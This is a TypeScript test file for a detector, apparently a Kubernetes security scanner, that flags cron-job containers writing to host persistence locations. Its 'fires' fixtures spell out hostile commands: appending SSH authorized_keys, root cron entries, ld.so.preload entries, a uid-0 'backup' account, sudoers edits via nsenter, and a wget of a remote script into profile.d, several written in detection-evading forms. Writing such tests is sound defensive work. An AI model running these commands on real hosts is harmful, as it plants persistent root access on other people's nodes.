import assert from 'node:assert/strict';
import { test } from 'node:test';
import { PERSISTENCE_FILES, PERSISTENCE_PREFIXES } from '../../command/places.ts';
import { blank, cronJob, indicatorTable, mounting, script, scriptOn, UNSEEN } from '../testing.ts';
import { commandPersistenceWrite } from './persistence-write.ts';

const onMount = (path: string, mountPath: string, text: string) =>
  cronJob(mounting(path, { mountPath }, ['sh', '-c', text]));

const sharing = (hostPID: boolean, text: string) =>
  cronJob({ hostPID, containers: [{ name: 'main', image: 'busybox:1.36', command: ['sh', '-c', text] }] });

indicatorTable(commandPersistenceWrite, {
  fires: {
    'the profile of root below its home': cronJob(
      mounting('/root', { mountPath: '/root' }, ['sh', '-c', 'echo id >> ~/.bashrc']),
    ),
    'a cron entry through the mounted root': scriptOn('/', 'echo "* * * * * root id" > /host/etc/cron.d/a'),
    'a key that is appended': scriptOn('/', 'cat /key.pub >> /host/home/ubuntu/.ssh/authorized_keys'),
    'a unit that is copied': scriptOn('/', 'cp /payload/a.service /host/etc/systemd/system/'),
    'a library that is preloaded': scriptOn('/', 'echo /lib/x.so | tee -a /host/etc/ld.so.preload'),
    'a download to the place itself': scriptOn('/', 'wget -qO /host/etc/profile.d/a.sh http://203.0.113.7/a'),
    'a static pod through a narrower mount': onMount('/etc/kubernetes/manifests', '/m', 'printf x > /m/a.yaml'),
    'a path with dots': scriptOn('/', 'echo x > /host/usr/../etc/./cron.d/a'),
    'behind a chroot': script(`chroot /host sh -c 'echo x > /etc/cron.d/a'`),
    'behind an nsenter': script(`nsenter -t 1 -m -- sh -c 'sed -i s/a/b/ /etc/sudoers'`),
    'an editor': scriptOn('/', "vi -es -c 'normal i* * * * * root id' -c wq /host/etc/cron.d/a"),
    'lines for ed': scriptOn('/', "printf 'a\\n* * * * * root id\\n.\\nw\\nq\\n' | ed /host/etc/crontab"),
    'what a database puts out': scriptOn(
      '/',
      `sqlite3 /dev/null -cmd '.output /host/etc/cron.d/a' "select '* * * * * root id';"`,
    ),
    'what sort puts out': scriptOn('/', 'echo "* * * * * root id" | sort -o /host/etc/cron.d/a'),
    'a resource of puppet': scriptOn('/', `puppet apply -e 'file { "/host/etc/cron.d/a": content => "x" }'`),
    'a file of Java': scriptOn('/', `jrunscript -e 'w=new java.io.FileWriter("/host/etc/cron.d/a"); w.write("x")'`),
    'a here-document': scriptOn('/', 'cat > /host/etc/crontab <<EOF\n* * * * * root id\nEOF\n'),
    'an account that a tool makes on the mounted directory': cronJob(
      mounting('/etc', { mountPath: '/etc' }, ['sh', '-c', 'useradd -o -u 0 -g 0 -d /root backup']),
    ),
    'an account below the mounted root': scriptOn('/', 'useradd -R /host backup'),
    'a key through the first process of the node': sharing(true, 'echo k >> /proc/1/root/root/.ssh/authorized_keys'),
    'a shell that python starts': cronJob(
      mounting('/', {}, ['python3', '-c', 'import os; os.system("echo x > /host/etc/cron.d/a")']),
    ),
  },
  staysSilent: {
    'an editor that only looks': scriptOn('/', "vi -es -c 'q!' /host/etc/crontab"),
    'a database that is kept': scriptOn('/', `sqlite3 /host/var/lib/a.db '.output /host/var/backups/a.sql' .dump`),
    'a line of sed that is put out': scriptOn('/', "sed -n '/root/p' /host/etc/crontab"),
    'a search of tables': scriptOn('/', "find /host/etc/cron.d -type f -printf '%p\\n'"),
    'the profile of another home': cronJob({
      volumes: [{ name: 'node', hostPath: { path: '/root' } }],
      containers: [
        {
          name: 'main',
          image: 'busybox:1.36',
          command: ['sh', '-c', 'echo id >> ~/.bashrc'],
          env: [{ name: 'HOME', value: '/work' }],
          volumeMounts: [{ name: 'node', mountPath: '/root' }],
        },
      ],
    }),
    'the own crontab of a container': script(
      'echo "0 3 * * * /backup" > /etc/crontabs/root; echo x > /etc/cron.d/a; crond -f',
    ),
    'an account of the container, which mounts the logs of the node': scriptOn(
      '/var/log',
      'adduser -D app; passwd -l root',
    ),
    'the first process of the pod itself': sharing(false, 'echo k >> /proc/1/root/root/.ssh/authorized_keys'),
    'a file of the node that starts nothing, through its first process': sharing(
      true,
      'echo 1 > /proc/1/root/tmp/ready',
    ),
    'a place of the node that starts nothing': scriptOn('/', 'echo x > /host/var/backup/etc.tar'),
    'a place that is only read': scriptOn('/', 'cat /host/etc/crontab'),
    'a read-only mount': cronJob(mounting('/', { readOnly: true }, ['sh', '-c', 'echo x > /host/etc/cron.d/a'])),
    'a mount of other data': onMount('/data', '/host', 'echo x > /host/etc/cron.d/a'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});

for (const place of [...PERSISTENCE_FILES, ...PERSISTENCE_PREFIXES.map((prefix) => `${prefix}a`)]) {
  test(`${place} on the node`, () =>
    assert.equal(commandPersistenceWrite.assess(scriptOn('/', `echo x > /host${place}`)).kind, 'hit'));
}
